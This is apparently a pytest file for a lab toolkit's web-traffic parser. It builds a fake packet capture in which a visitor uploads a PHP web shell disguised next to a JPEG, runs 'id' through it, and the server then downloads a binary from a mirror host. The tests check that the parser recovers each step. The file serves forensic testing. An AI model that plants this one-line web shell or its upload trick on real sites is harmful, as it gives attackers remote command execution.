"""Uploads, fetches and connections read from a capture built by hand with scapy, not by labkit."""

from __future__ import annotations

import hashlib
from datetime import datetime
from pathlib import Path

from scapy.utils import wrpcap

from labkit.solvers.web_uploads import read_web_traffic, request_file_name

from .helpers import Connection, Wire

SERVER = ("198.51.100.10", "02:00:00:00:00:10")
VISITOR = ("185.220.101.5", "02:00:00:00:00:01")
MIRROR = ("151.101.1.69", "02:00:00:00:00:01")
START = datetime.fromisoformat("2026-01-05T01:00:00+00:00").timestamp()
SHELL = b"<?php system($_GET['cmd']); ?>\r\n"
AGENT = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20
BOUNDARY = "----formdata-7d2a1b"


def _multipart() -> bytes:
    return (
        (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\nholiday\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="photo"; filename="me.jpg"\r\n'
            "Content-Type: image/jpeg\r\n\r\n"
        ).encode()
        + b"\xff\xd8\xff\xe0 not really"
        + (
            f'\r\n--{BOUNDARY}\r\nContent-Disposition: form-data; name="photo"; filename="cache.phtml"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + SHELL
        + f"\r\n--{BOUNDARY}--\r\n".encode()
    )


def _exchange(wire: Wire, client: tuple[str, str], server: tuple[str, str], port: int,
              request: bytes, body: bytes, content_type: str = "text/html") -> None:  # fmt: skip
    web = Connection(wire, client, server, (port, 80))
    web.open()
    web.say("client", request)
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
    web.say("server", head.encode() + body)
    web.close()


def _get(uri: str, host: str) -> bytes:
    return f"GET {uri} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def _capture(path: Path) -> None:
    wire = Wire(START)
    form = _multipart()
    post = (
        "POST /gallery/upload HTTP/1.1\r\nHost: shop.example\r\n"
        f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {len(form)}\r\n\r\n"
    )
    _exchange(wire, VISITOR, SERVER, 41000, post.encode() + form, b"saved")
    call = _get("/gallery/files/cache.phtml?cmd=id", "shop.example")
    _exchange(wire, VISITOR, SERVER, 41001, call, b"uid=33(www-data)\n")
    fetch = _get("/x/agent", "mirror.example")
    _exchange(wire, SERVER, MIRROR, 52000, fetch, AGENT, "application/octet-stream")
    wrpcap(str(path), wire.packets)


def test_uploads_fetches_and_connections(tmp_path: Path) -> None:
    capture = tmp_path / "web.pcap"
    _capture(capture)

    traffic = read_web_traffic(capture)

    uploaded = [(upload.name, upload.field) for upload in traffic.uploads]
    assert uploaded == [("me.jpg", "photo"), ("cache.phtml", "photo")]
    shell = traffic.uploads[1]
    assert shell.data == SHELL and shell.carrier.source == "POST shop.example/gallery/upload"
    assert [call.uri for call in traffic.requests_for("cache.phtml")] == ["/gallery/files/cache.phtml?cmd=id"]
    assert traffic.requests_for("me.jpg") == []
    fetched = traffic.fetch("http://mirror.example/x/agent")
    assert fetched is not None
    request, carried = fetched
    assert (request.client, carried.sha256) == (SERVER[0], hashlib.sha256(AGENT).hexdigest())
    assert traffic.contents[carried.name] == AGENT
    assert traffic.fetch("http://mirror.example/x/other") is None
    row = traffic.connection((MIRROR[0], 80), (SERVER[0], 52000))  # either order
    assert row is not None and row.stream == 2 and row.address_a == SERVER[0]


def test_request_file_name() -> None:
    assert request_file_name("/uploads/a%20b.php?c=id#x") == "a b.php"
    assert request_file_name("http://host.example/dir/") == "dir"
    assert request_file_name("/") == ""
